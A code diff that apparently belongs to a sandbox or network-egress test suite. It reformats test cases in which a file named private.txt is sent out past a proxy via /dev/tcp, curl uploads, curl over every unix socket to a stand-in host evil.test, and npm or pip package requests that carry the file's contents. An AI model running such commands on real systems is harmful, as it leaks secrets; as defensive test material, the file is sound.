@@ -73,7 +73,8 @@ const detoursOf = (at: Held): Record<string, Goal> => {
     'goes past the proxy': impossible(
       leak(
         () =>
-          `cat private.txt > /dev/tcp/127.0.0.1/${port()}; curl -s --noproxy '*' -T private.txt ${url('', '127.0.0.1')}`,
+          `cat private.txt > /dev/tcp/127.0.0.1/${port()}; curl -s --noproxy '*' -T private.txt ` +
+          `${url('', '127.0.0.1')}`,
       ),
     ),
     'sends it by many commands at once': {
@@ -92,7 +93,8 @@ const detoursOf = (at: Held): Record<string, Goal> => {
     'tries every socket': impossible(
       leak(
         () =>
-          `find / -xdev -name "*.sock" -exec curl -s ${PROBE} --unix-socket {} http://evil.test/$(cat private.txt) \\; 2>/dev/null`,
+          `find / -xdev -name "*.sock" -exec curl -s ${PROBE} --unix-socket {} http://evil.test/$(cat private.txt) ` +
+          '\\; 2>/dev/null',
       ),
     ),
     'takes the credentials of another command': impossible(
@@ -105,7 +107,8 @@ const detoursOf = (at: Held): Record<string, Goal> => {
     ),
     'asks for a package with that name': leak(
       () =>
-        `npm install --registry ${url()} "$(cat private.txt)" 2>&1; pip download --index-url ${url()}$(cat private.txt) x 2>&1`,
+        `npm install --registry ${url()} "$(cat private.txt)" 2>&1; pip download --index-url ${url()}$(cat ` +
+        'private.txt) x 2>&1',
     ),
     'looks up a name': impossible(
       leak(() =>
